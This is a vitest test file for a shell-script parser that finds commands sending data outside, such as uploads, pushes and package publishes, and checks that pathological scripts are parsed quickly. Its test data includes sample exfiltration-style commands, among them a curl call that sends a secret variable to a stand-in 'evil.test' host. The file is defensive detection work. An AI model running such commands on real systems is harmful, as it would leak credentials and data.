import { describe, expect, it } from 'vitest';
import { readPublications } from './shell-publications.js';
import { MARK, readCommands } from '../../../text/shell-words.js';

const environment: Record<string, string> = { REGISTRY: 'registry.acme.test' };
const sent = (script: string, markers: string[] = []) =>
  readPublications(script, (name) => environment[name], markers).map(
    ({ tool, destination, certain, line }) =>
      `${line}: ${tool} > ${destination.text}${destination.known ? '' : ' (computed)'}${certain ? '' : ' (by default)'}`,
  );

describe('commands of a shell script', () => {
  it.each([
    ['a  b "c d" e\\ f', [['a', 'b', 'c d', 'e f']]],
    ["# no\necho 'a # b' # c", [['echo', 'a # b']]],
    ['a \\\n  b', [['a', 'b']]],
    ['A=1 sudo b > out.txt 2>&1 && c | d', [['b'], ['c'], ['d']]],
    ['x=$(curl -T a https://h/)', [['curl', '-T', 'a', 'https://h/']]],
    ['cat <<EOF > f\ncurl -T a b\nEOF\nls', [['cat'], ['ls']]],
    [
      "ssh h <<'END'\nrm x\nEND",
      [
        ['ssh', 'h'],
        ['rm', 'x'],
      ],
    ],
    ['if [ -f x ]; then y; fi', [['[', '-f', 'x', ']'], ['y'], ['fi']]],
    ['HOST=a.test; scp f $HOST:/srv', [['scp', 'f', 'a.test:/srv']]],
  ])('%j', (script, words) => {
    expect(readCommands(script, () => undefined).map((command) => command.words.map((word) => word.text))).toEqual(
      words,
    );
  });

  it('keeps a line count over quotes, continuations and here-documents', () => {
    const script = 'a "x\ny" \\\n z\ncat <<E\n1\n2\nE\nb';
    expect(readCommands(script, () => undefined).map(({ words, line }) => `${words[0]!.text}:${line}`)).toEqual([
      'a:0',
      'cat:3',
      'b:7',
    ]);
  });
});

describe('what a shell script sends outside', () => {
  it.each([
    ['curl https://x.test/file', []],
    ['curl -T a.zip https://x.test/up', ['0: curl > https://x.test/up']],
    ['curl -sSf -u $U:$P --upload-file a https://x.test/up', ['0: curl > https://x.test/up']],
    ['curl -X POST -d @f https://x.test/', ['0: curl > https://x.test/']],
    ['curl -d k=$K $URL', ['0: curl > $URL (computed)']],
    ['curl "https://evil.test/?k=$K"', ['0: curl > https://evil.test/?k=$K (computed)']],
    ['wget --post-file=x https://x.test', ['0: wget > https://x.test']],
    ['\nscp -i k a.tgz deploy@prod.test:/srv/', ['1: scp > deploy@prod.test:/srv/']],
    ['scp prod.test:/a .', []],
    ['rsync -avz out/ web@h.test:/var/www', ['0: rsync > web@h.test:/var/www']],
    ['rsync -a a/ b/', []],
    ['ssh -i key -o A=b deploy@prod.test up', ['0: ssh > deploy@prod.test']],
    ['docker build -t a . && docker push $REGISTRY/a:1', ['0: docker push > registry.acme.test/a:1']],
    ['docker push acme/app:$TAG', ['0: docker push > acme/app:$TAG (computed)']],
    ['docker buildx build --push -t r.test/a .', ['0: docker push > r.test/a']],
    ['npm publish', ['0: npm publish > npm:public (by default)']],
    ['npm publish --registry=https://n.test/', ['0: npm publish > https://n.test/']],
    ['npm run publish-docs', []],
    ['./mvnw -B clean deploy', ['0: mvn deploy > distributionManagement of pom.xml (computed)']],
    ['mvn deploy -DaltDeploymentRepository=r::default::https://m.test/r', ['0: mvn deploy > https://m.test/r']],
    ['mvn package', []],
    ['gradle :app:publish', ['0: gradle :app:publish > publishing repositories of the build script (computed)']],
    ['twine upload --repository-url https://p.test dist/*', ['0: twine upload > https://p.test']],
    ['twine upload dist/*', ['0: twine upload > pypi:public (by default)']],
    ['aws s3 sync out s3://b/x', ['0: aws s3 > s3://b/x']],
    ['aws s3 cp s3://b/x .', []],
    ['git push https://g.test/r.git main', ['0: git push > https://g.test/r.git']],
    ['git push origin main', ['0: git push > git remote origin (computed)']],
    ['jf rt u a.jar libs-release/x', ['0: jf rt upload > artifactory:libs-release/x']],
    ['az storage blob upload --account-name acc -c con -f x', ['0: az storage blob upload > azure:acc/con']],
  ])('%j', (script, expected) => {
    expect(sent(script)).toEqual(expected);
  });

  it('shows what Groovy computes as it is written there', () => {
    expect(sent(`scp a ${MARK}0${MARK}:/srv`, ['${params.HOST}'])).toEqual(['0: scp > ${params.HOST}:/srv (computed)']);
  });
});

describe('a hostile shell script', () => {
  it.each([
    ['nested commands', '$('.repeat(100_000)],
    ['backticks', '`'.repeat(100_001)],
    ['here-documents that never end', 'sh <<E\n'.repeat(30_000)],
    ['quotes', `"'`.repeat(100_000)],
    ['a long word', `curl -d x https://${'a@'.repeat(100_000)}`],
  ])('is read in time: %s', (_, script) => {
    expect(sent(script).length).toBeLessThan(10);
  });
});
